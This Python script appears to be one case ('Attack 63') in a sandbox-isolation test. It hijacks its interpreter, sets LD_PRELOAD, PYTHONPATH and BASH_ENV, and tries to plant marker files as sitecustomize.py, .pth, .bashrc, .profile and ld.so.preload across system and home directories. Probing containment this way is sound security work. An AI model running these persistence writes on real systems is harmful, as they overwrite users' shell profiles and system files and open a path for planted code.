"""Attack 63, the first program: changes its interpreter, and leaves what the next might read at its start."""
import atexit
import builtins
import os
import site
import sys

WORDS = "print('PLANTED')\n"
real_print = print
builtins.print = lambda *words, **options: real_print("PLANTED", *words, **options)
sys.settrace(lambda *event: None)
sys.modules["json"] = sys.modules["os"]
sys.path.insert(0, "/mnt/data/evil")
atexit.register(os.system, "sleep 0.1; echo PLANTED > /tmp/late; echo PLANTED > /mnt/data/sitecustomize.py")
for variable in ("PYTHONSTARTUP", "PYTHONPATH", "BASH_ENV", "ENV", "NODE_OPTIONS", "LD_PRELOAD"):
    os.environ[variable] = "/mnt/data/evil"
written = []
for directory in {*site.getsitepackages(), site.getusersitepackages(), os.path.dirname(os.__file__), "/etc",
                  "/usr/local/lib/python3.11/dist-packages", "/mnt/data", "/tmp", os.path.expanduser("~")}:
    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "json.py", ".bashrc", ".profile",
                 "ld.so.preload"):
        try:
            os.makedirs(directory, exist_ok=True)
            with open(f"{directory}/{name}", "w") as file:
                file.write(WORDS)
            written.append(directory)
        except OSError:
            pass
sys.settrace(None)
inside = ("/mnt/data", "/tmp")
real_print("outside", sorted({directory for directory in written if not directory.startswith(inside)}))
